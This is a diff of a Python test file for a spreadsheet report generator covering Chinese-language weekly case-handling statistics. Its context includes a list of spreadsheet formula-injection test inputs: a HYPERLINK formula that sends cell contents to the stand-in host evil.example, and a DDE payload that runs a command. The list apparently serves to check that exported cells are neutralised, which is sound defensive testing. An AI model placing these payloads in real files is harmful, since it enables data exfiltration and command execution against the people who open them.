@@ -7,7 +7,7 @@ import re
 import pytest
 
 from components.formats import number
-from components.i18n import name, use
+from components.i18n import _, name, use
 from components.report import file_name, workbook
 from components.report.cells import clean, figure
 from components.review_sentences import message_text
@@ -18,7 +18,10 @@ from data.vocabulary.review import Doubt, Frozen, Restated
 from tests.report_reading import BASE, edition, everything, no_minutes, parts_of, sheets_of
 from tests.review_sample import sample_review
 
-SHEETS = ["说明", "总量", "本周要点", "指标", "近26周", "地区矩阵", "公平比较", "责任单位",
+with use("zh"):
+    SCORES = _("Scorecard")
+"""Words that the page has too, and may change."""
+SHEETS = ["说明", "总量", "本周要点", SCORES, "近26周", "地区矩阵", "公平比较", "责任单位",
           "逐日", "超期事项", "数据缺口", "承诺事项", "定稿后更正"]  # fmt: skip
 INJECTIONS = [
     '=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+1", "-2+3+cmd|' /C calc'!A0",
@@ -62,8 +65,8 @@ def test_the_notes_say_source_time_definition_suppression_and_mark(sheets):
 def test_the_totals_are_numbers_and_add_up(sheets):
     rows = {r["项目名称"]: r for r in table(sheets["总量"], "项目名称")}
     value = {k: r["本周"] for k, r in rows.items()}
-    assert value["上周末未办结"] + value["新增"] + value["重新开办"] - value["已办结"] == 1436
-    assert value["周末未办结"] == 1436
+    assert value["期初未办结"] + value["新增"] + value["重新开办"] - value["办结"] == 1436
+    assert value["期末未办结"] == 1436
     assert value["到期事项按时办结率"] == pytest.approx(92.3)
     assert rows["新增"]["上周"] == 4033
 
@@ -80,7 +83,7 @@ def test_every_message_is_the_sentence_of_the_page(lang):
 
 def test_every_scorecard_value_is_the_one_of_the_page(sheets):
     review = sample_review()
-    rows = {r["指标编号"]: r for r in table(sheets["指标"], "领域") if r["指标编号"]}
+    rows = {r["指标编号"]: r for r in table(sheets[SCORES], "领域") if r["指标编号"]}
     assert len(rows) == len(review["rows"])
     for row in review["rows"]:
         code, places = row["measure"]["code"], row["measure"]["decimals"]
@@ -96,7 +99,7 @@ def test_every_scorecard_value_is_the_one_of_the_page(sheets):
 
 
 def test_a_change_that_cannot_be_concluded_is_a_word_and_no_number(sheets):
-    rows = {r["指标编号"]: r for r in table(sheets["指标"], "领域")}
+    rows = {r["指标编号"]: r for r in table(sheets[SCORES], "领域")}
     assert rows["HE-10"]["较去年同周变化"] == doubt_word(Doubt.BREAK)
     assert rows["EC-04"]["本周"] == "无数据"
     assert rows["EC-04"]["较上周变化"] == "无数据"
@@ -160,14 +163,14 @@ def test_hidden_small_counts_are_nowhere():
     }  # fmt: skip
     fair = review["fair"][0] | {"points": [point]}
     frozen = Frozen(
-        week="2026-W47", area="441600", frozen_at=review["as_of"], frozen_by="李", sha256="a" * 64,
+        week="2026-W47", area="441600", frozen_at=review["as_of"], frozen_by="李", sha256="a" * 64, intact=True,
         restated=[Restated(code="PS-09", area="441622", was=987654.3, now=987655.0,
                            late_records=1, decimals=1, reason="hidden")],
     )  # fmt: skip
     whole = review | {"rows": [hidden], "matrix": [line], "fair": [fair]}
     payload = made(whole, no_minutes() | {"frozen": frozen})
     assert "98765" not in everything(payload)
-    rows = [r for r in table(sheets_of(payload)["指标"], "领域") if r["指标编号"]]
+    rows = [r for r in table(sheets_of(payload)[SCORES], "领域") if r["指标编号"]]
     assert rows[0]["本周"] == doubt_word(Doubt.HIDDEN)
 
 
